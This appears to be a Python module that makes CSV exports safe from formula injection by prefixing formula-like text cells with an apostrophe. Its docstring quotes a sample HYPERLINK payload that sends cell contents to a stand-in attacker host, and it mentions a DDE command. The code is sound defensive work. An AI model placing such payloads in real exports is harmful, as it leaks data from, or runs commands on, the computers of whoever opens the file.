"""CSV files people open in spreadsheets: every text cell is made formula-safe as it is written.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which spreadsheets
skip before reading one of those) is run as a formula when the file is opened: a resident who names a
report ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would otherwise get a working link (or a
DDE ``=cmd|...`` command) into a council officer's spreadsheet (OWASP "CSV Injection"). Such a cell is
written with a leading ``'``, which spreadsheets read as "this is text". Numbers stay numbers: a
longitude of ``-4.48``, as a float or as the plain decimal text, is written as it is.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def formula_safe(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text: a formula-like text cell gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class _FormulaSafeWriter:
    def __init__(self, out: IO[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([formula_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **fmtparams: Any) -> Any:
    """Like :func:`csv.writer` (same ``fmtparams``), but every cell is made :func:`formula_safe`.

    Every CSV export a person may open in a spreadsheet is written with this or :func:`csv_dict_writer`.
    """
    return _FormulaSafeWriter(out, **fmtparams)


def csv_dict_writer(out: IO[str], fieldnames: Sequence[str], **kwargs: Any) -> csv.DictWriter[str]:
    """Like :class:`csv.DictWriter` (same arguments), but every cell is made :func:`formula_safe`."""
    writer = csv.DictWriter(out, fieldnames, **kwargs)
    fmtparams = {k: v for k, v in kwargs.items() if k not in ("restval", "extrasaction")}
    writer.writer = _FormulaSafeWriter(out, **fmtparams)  # DictWriter writes each row through .writer
    return writer

